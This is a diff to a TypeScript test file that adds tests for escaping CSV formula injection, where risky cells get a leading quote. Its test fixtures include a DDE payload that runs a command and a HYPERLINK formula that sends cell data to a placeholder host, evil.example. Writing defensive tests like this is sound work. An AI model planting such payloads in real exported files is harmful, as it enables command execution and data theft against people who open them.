@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { csvField, csvList, csvTable } from '../lib/csv';
-import { parseCsv, parseCsvList } from './helpers/csv';
+import { parseCsv, parseCsvList, unguardCsvCell } from './helpers/csv';
 
 describe('CSV fields (RFC 4180)', () => {
   it('leaves plain text, numbers and spaces unquoted', () => {
@@ -34,7 +34,32 @@ describe('CSV tables', () => {
       ['"starts with a quote', 'ends with a quote"', ',,,'],
       ['=SUM(A1:A2)', 'tab\there', 'ünïcödé 漢字 🙂'],
     ];
-    expect(parseCsv(csvTable(['x', 'y', 'z'], rows))).toEqual([['x', 'y', 'z'], ...rows]);
+    expect(parseCsv(csvTable(['x', 'y', 'z'], rows)).map((row) => row.map(unguardCsvCell))).toEqual([['x', 'y', 'z'], ...rows]);
+  });
+});
+
+describe('CSV formula guard (OWASP: a leading quote)', () => {
+  const hostile = ['=1+2', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1', '- Radostin Stoyanov', '@AkkiSingh', '\tx', '\rx', '++ starts'];
+
+  it('puts a quote before text a spreadsheet would run as a formula: =, +, -, @, tab or CR first', () => {
+    for (const cell of hostile) expect(parseCsv(csvTable(['x'], [[cell]]))[1]![0], JSON.stringify(cell)).toBe(`'${cell}`);
+  });
+
+  it('puts one before text that starts with a quote too, so that dropping one leading quote always undoes it', () => {
+    expect(csvField("'quoted'")).toBe("''quoted'");
+    expect(csvField("'=1")).toBe("''=1");
+  });
+
+  it('leaves other text and numbers alone, a negative number too', () => {
+    expect(csvField('a=1')).toBe('a=1');
+    expect(csvField(' =1')).toBe(' =1');
+    expect(csvField(-3)).toBe('-3');
+  });
+
+  it('reads back exactly once the leading quote is dropped', () => {
+    const cells = [...hostile, "'", "''", 'plain', 'x'];
+    const [, ...rows] = parseCsv(csvTable(['x'], cells.map((cell) => [cell])));
+    expect(rows.map((row) => unguardCsvCell(row[0]!))).toEqual(cells);
   });
 });
 
